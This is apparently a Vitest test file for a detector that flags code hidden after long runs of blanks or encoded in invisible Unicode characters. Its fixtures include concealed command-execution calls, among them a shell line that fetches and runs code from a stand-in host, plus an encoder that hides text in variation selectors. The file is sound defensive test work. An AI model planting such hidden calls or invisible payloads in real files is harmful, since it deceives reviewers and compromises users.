import { describe, expect, it } from 'vitest';
import type { Language } from '../../model/source.ts';
import { hiddenCodeIn } from './hidden-code.ts';

const CALL = "require('child_process').exec(tide)";
const selectors = (text: string): string =>
  Array.from(Buffer.from(text), (byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16)).join(
    '',
  );

describe('code after blanks', () => {
  it.each<[string, Language, string]>([
    ['200 spaces', 'javascript', `tide();${' '.repeat(200)}${CALL}`],
    ['tabs', 'typescript', `tide();\n\t\n}${'\t'.repeat(300)}${CALL}`],
    ['wide blanks', 'javascript', `tide();${'\u3000'.repeat(250)}${CALL}`],
    ['a line that begins with them', 'javascript', `tide();\n${' '.repeat(400)}${CALL}\nquay();`],
    ['Python', 'python', `import tides${' '.repeat(220)};import os;os.system(tide)`],
    ['a shell', 'shell', `echo tides${' '.repeat(220)};eval "$(curl quay.invalid)"`],
  ])('after %s in %s', (_what, language, text) => {
    expect(hiddenCodeIn(text, language)).toEqual([
      expect.objectContaining({ kind: 'hidden-code', by: 'blanks', offset: expect.any(Number) }),
    ]);
  });

  it.each<[string, Language, string]>([
    ['199 spaces', 'javascript', `tide();${' '.repeat(199)}${CALL}`],
    ['no code after them', 'javascript', `tide();${' '.repeat(300)}\nquay();`],
    ['a bracket after them', 'javascript', `tide(${' '.repeat(300)});`],
    ['a string that holds them', 'javascript', `help = "tides${' '.repeat(300)}call(me) now";`],
    ['a comment that holds them', 'javascript', `// tides${' '.repeat(300)}${CALL}`],
    ['a comment of Python', 'python', `x = 1 # tides${' '.repeat(300)}os.system(tide)`],
    ['a table of a document', 'text', `| tides |${' '.repeat(300)}| call(me) |`],
    [
      'deep indentation that the line before shares',
      'javascript',
      `${' '.repeat(240)}tide({\n${' '.repeat(244)}quay: call(),`,
    ],
  ])('%s is none', (_what, language, text) => {
    expect(hiddenCodeIn(text, language)).toEqual([]);
  });

  it('a parser’s word is taken for what is a string', () => {
    const text = `x = \`tide\${a}${' '.repeat(300)}${CALL}\``;
    expect(hiddenCodeIn(text, 'javascript', () => true)).toEqual([]);
    expect(hiddenCodeIn(`don't${' '.repeat(300)}${CALL}`, 'javascript', () => false)).toHaveLength(1);
  });

  it('says what stands there and where', () => {
    expect(hiddenCodeIn(`a();${' '.repeat(200)}${CALL}`, 'javascript')).toEqual([
      { kind: 'hidden-code', by: 'blanks', value: CALL, offset: 204 },
    ]);
  });

  it('ends for a file of blanks', () => {
    expect(hiddenCodeIn(' '.repeat(5_000_000), 'javascript')).toEqual([]);
  });
});

describe('characters that are not drawn', () => {
  it.each([
    ['bytes in variation selectors', `const s = \`${selectors('call(tide)')}\``, 'call(tide)'],
    [
      'ASCII in tags',
      `s = "${Array.from('call(tide)', (l) => String.fromCodePoint(0xe0000 + l.charCodeAt(0))).join('')}"`,
      'call(tide)',
    ],
    ['zero-width bits', `s = "${'\u200B\u200C'.repeat(8)}"`, '16 characters that are not drawn'],
    ['private use', `s = "${'\uE000\uE001'.repeat(32)}"`, '64 characters that are not drawn'],
  ])('%s', (_what, text, value) => {
    expect(hiddenCodeIn(text, 'javascript')).toEqual([
      expect.objectContaining({ kind: 'hidden-code', by: 'invisible-characters', value }),
    ]);
  });

  it.each([
    ['nine of them', `s = "${'\u200B'.repeat(9)}"`],
    ['a list of icons', `s = "${'\uE000'.repeat(63)}"`],
    ['emoji', `s = "${'🌊⚓️👩‍👩‍👧'.repeat(20)}"`],
    ['another script', `s = "${'潮汐表'.repeat(20)}"`],
  ])('%s are none', (_what, text) => {
    expect(hiddenCodeIn(text, 'javascript')).toEqual([]);
  });
});
